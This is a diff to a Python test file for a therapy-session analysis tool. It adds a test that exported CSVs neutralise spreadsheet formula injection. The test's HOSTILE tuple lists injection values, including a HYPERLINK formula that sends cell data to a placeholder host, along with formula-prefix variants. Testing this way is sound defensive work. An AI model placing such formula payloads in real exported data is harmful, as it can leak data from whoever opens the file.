@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from datetime import UTC, timedelta
@@ -15,6 +16,7 @@ from synthetic_sessions import Plan, synthetic_analysis
 
 from db.records import CohortFilter
 from db.store import Store
+from fer_phq.core.csv_input import Column, TableFormat, read_table
 from fer_phq.core.feature_series import FeatureSeries
 from fer_phq.core.messages import literal
 from fer_phq.core.phq import PhqUnavailable, Scale, UnavailableReason
@@ -166,6 +168,25 @@ def test_a_transcripts_table_is_a_transcript_again(store: Store, session_id: str
     assert [(one.start_s, one.end_s, one.speaker, one.text) for one in again.utterances] == [
         (0.0, 1.5, "Therapist", "How are you?"), (2.0, 4.25, "Client", 'Well, thank "you".'),
     ]  # fmt: skip
+
+
+HOSTILE = (
+    '=HYPERLINK("https://a.example/"&A1)', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\r\n=1", " =1", "＝1", "'=1",
+    "- Yes.", "one\rtwo", "it's",
+)  # fmt: skip
+
+
+def test_no_text_of_a_table_is_a_formula_and_reading_gives_it_back() -> None:
+    table = pd.DataFrame({"text": HOSTILE, "score": range(-5, len(HOSTILE) - 5)})
+    document = as_csv(table)
+    cells = list(csv.reader(io.StringIO(document, newline="")))[1:]
+    assert len(cells) == len(HOSTILE)
+    assert not [text for text, _ in cells if text.strip()[:1] in set("=+-@＝")]
+    assert [score for _, score in cells][:2] == ["-5", "-4"], "numbers stay numbers"
+    columns = TableFormat((Column("text", required=True), Column("score", required=True)))
+    again = read_table(document, columns)
+    assert [row["text"] for row in again.rows] == [text.strip().replace("\r", "\n") for text in HOSTILE]
+    assert json.loads(as_json(table))[0]["text"] == HOSTILE[0], "no spreadsheet opens it"
 
 
 def test_without_notes_and_transcript_there_is_nothing_in_them(store: Store, analysis_id: str) -> None:
